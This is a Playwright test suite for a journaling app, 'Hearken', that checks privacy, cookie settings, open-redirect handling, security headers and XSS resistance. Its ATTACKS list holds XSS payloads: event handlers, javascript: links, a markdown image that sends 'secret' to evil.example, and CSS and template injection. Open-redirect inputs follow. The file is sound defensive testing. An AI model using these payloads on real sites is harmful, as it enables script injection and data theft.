/** What is written stays between the writer and the server: not in logs, not in files, not in the browser, nowhere else. */

import type { Response } from "@playwright/test";
import { ADA } from "../support/account";
import * as app from "../support/app";
import { expect, test } from "../support/test";
import { browserStorage, filesWith } from "../support/traces";
import { Watch } from "../support/watch";

/** A word that is nowhere else. */
const canary = (place: string) => `quokka${place}`;

test.describe("with a talkative log", () => {
  test.use({ settings: { HEARKEN_LOG: "trace" } });

  test("no word of the user's is left in the server's files or log, or in the browser", async ({ page, server }) => {
    const ada = { ...ADA, name: canary("Name"), email: `${canary("mail")}@example.org` };
    const cacheable: string[] = [];
    page.on("response", (answer) => {
      if (isApi(answer) && answer.headers()["cache-control"] !== "no-store") cacheable.push(answer.url());
    });

    await test.step("a life in Hearken", async () => {
      await page.goto("/");
      await app.createOwnerAccount(page, ada);
      await app.noCodes(page);
      await page.getByLabel("In your own words").fill(canary("Aim"));
      await app.skipWelcome(page);
      await expect(app.field(page)).toHaveAttribute("placeholder", new RegExp(canary("Aim")));
      await app.field(page).fill(`I felt ${canary("Text")} and happy about the money.`);
      await page.getByRole("textbox", { name: "Title" }).fill(canary("Title"));
      await page.getByLabel("Tags").fill(canary("Tag"));
      await page.getByLabel("People").fill(canary("Person"));
      await page.keyboard.press("Enter");
      await app.isSaved(page);
      await app.finish(page);
      await expect(app.reflection(page)).toContainText("Reflected");
      await app.goTo(page, "People");
      await page.getByRole("button", { name: `Edit ${canary("Person")}` }).click();
      await page.getByLabel("Notes").fill(canary("Notes"));
      await page.getByRole("button", { name: "Save" }).click();
      await app.goTo(page, "Insights");
      await expect(page.getByRole("slider")).toBeVisible();
      await page.goto(`/journal?q=${canary("Text")}&tag=${canary("Tag")}`);
      await expect(page.getByRole("link", { name: canary("Title") })).toBeVisible();
      await app.isInStep(page);
    });

    await test.step("the browser keeps no word of it, and the cookie is out of reach of scripts", async () => {
      expect(cacheable).toEqual([]);
      const stored = await browserStorage(page);
      expect(stored).toMatchObject({ databases: [], caches: [], workers: [], cookies: "", window: "" });
      expect(JSON.stringify(stored)).not.toContain("quokka");
    });

    await test.step("while it runs, and after it has ended", async () => {
      // Nobody is there to look for the server while it is away.
      await page.goto("about:blank");
      expect(await filesWith(server.dataDir, "quokka")).toEqual([]);
      await server.goDown();
      expect(await filesWith(server.dataDir, "quokka")).toEqual([]);
      expect(server.logs).not.toContain("quokka");
    });

    await test.step("and that is not for want of looking", async () => {
      expect(await filesWith(server.dataDir, "CREATE TABLE")).toContainEqual(expect.stringMatching(/^hearken\.db/));
      expect(server.logs).toContain("/api/v1/auth/register");
      await server.comeBack();
    });
  });
});

for (const host of ["127.0.0.1", "localhost"]) {
  test(`the session's cookie works on http://${host}, and belongs to this host alone`, async ({
    server,
    browser,
    ada: _,
  }) => {
    const home = server.url.replace("127.0.0.1", host);
    const context = await browser.newContext({ baseURL: home });
    const watch = new Watch(home);
    watch.attach(context);
    const page = await context.newPage();
    await app.signIn(page, ADA);
    await page.reload();
    await app.isInStep(page);

    const [cookie, ...others] = await context.cookies();
    expect(others).toEqual([]);
    expect(cookie).toMatchObject({
      name: "__Host-hearken_rt",
      domain: host,
      path: "/",
      httpOnly: true,
      secure: true,
      sameSite: "Strict",
    });

    await app.goTo(page, "Settings");
    await page.getByRole("button", { name: "Sign out", exact: true }).click();
    await expect(app.heading(page)).toHaveText("Sign in");
    expect(await context.cookies()).toEqual([]);
    expect(watch.complaints).toEqual([]);
  });
}

const ATTACKS = [
  '<img src="https://evil.example/i" onerror="window.pwned=1"><img src=/pwned onerror=window.pwned=1>',
  "<script>window.pwned=1</script><svg/onload=window.pwned=1><iframe srcdoc='<script>parent.pwned=1</script>'>",
  '<math><mtext><a href="javascript:window.pwned=1">click</a></mtext></math>',
  "![picture](https://evil.example/md?q=secret) [link](javascript:window.pwned=1) ![](/pwned)",
  '"><style>@import "https://evil.example/css"</style>{{constructor.constructor("window.pwned=1")()}}',
];

test("words that look like code stay words, wherever they are shown", async ({ page, ada }) => {
  const requested: string[] = [];
  page.on("request", (request) => requested.push(new URL(request.url()).pathname));
  const attack = ATTACKS.join("\n");
  const { id: mallory } = await ada.createPerson({ name: `<img src=/pwned onerror=window.pwned=1>`, notes: attack });
  const entry = { text: `I am happy. ${attack}`, title: ATTACKS[3] ?? "", tags: ["<b onclick=x>"], people: [mallory] };
  const { id } = await ada.createEntry(entry);
  await ada.createEntry({ ...entry, status: "draft" });
  await ada.everythingIsRead();
  await app.signIn(page, ADA);

  const query = encodeURIComponent("<img src=/pwned onerror=window.pwned=1>");
  for (const path of ["/", `/e/${id}`, "/journal", `/journal?tag=${query}`, "/people", "/insights"]) {
    await page.goto(path);
    await app.isInStep(page);
    await expect(page.locator("main")).toContainText("pwned");
    await expect(page.locator("main").locator("img, iframe, script, style, math, [onclick]")).toHaveCount(0);
    await expect(page.locator('a[href^="javascript:" i], a[href*="evil.example"]')).toHaveCount(0);
  }
  await page.goto(`/e/${id}/edit`);
  await expect(app.field(page)).toHaveValue(entry.text);
  await page.getByRole("button", { name: "Done" }).click();
  await expect(page.locator("main")).toContainText("pwned");
  expect(await page.evaluate(() => "pwned" in window)).toBe(false);
  expect(requested).not.toContain("/pwned");
});

test("an address cannot lead out of the app", async ({ page, ada: _ }) => {
  for (const to of ["https://evil.example/", "//evil.example/", "/\\evil.example", "javascript:window.pwned=1"]) {
    await page.goto(`/sign-in?to=${encodeURIComponent(to)}`);
    await app.enterCredentials(page, ADA);
    await expect(app.heading(page)).toContainText("Ada");
    await page.context().clearCookies();
  }
});

test("every answer carries the headers that keep it to itself", async ({ server, ada: _ }) => {
  const index = await fetch(server.url);
  const script = /src="(\/assets\/[^"]+\.js)"/.exec(await index.text())?.[1] ?? "";
  const paths = ["/", "/journal", script, "/assets/none.js", "/favicon.svg", "/api/v1/health", "/api/v1/none", "/api"];
  for (const path of paths) {
    const { headers } = await fetch(server.url + path);
    const policy = headers.get("content-security-policy") ?? "";
    expect(policy, path).toContain("default-src 'none'");
    expect(policy, path).toContain("frame-ancestors 'none'");
    expect(policy, path).not.toMatch(/unsafe|\*|https?:/);
    expect(Object.fromEntries(headers), path).toMatchObject({
      "x-content-type-options": "nosniff",
      "x-frame-options": "DENY",
      "referrer-policy": "no-referrer",
      "cross-origin-opener-policy": "same-origin",
      "cross-origin-resource-policy": "same-origin",
    });
    expect(headers.get("access-control-allow-origin"), path).toBeNull();
    expect(headers.get("server"), path).toBeNull();
  }
});

const isApi = (answer: Response) => new URL(answer.url()).pathname.startsWith("/api/");
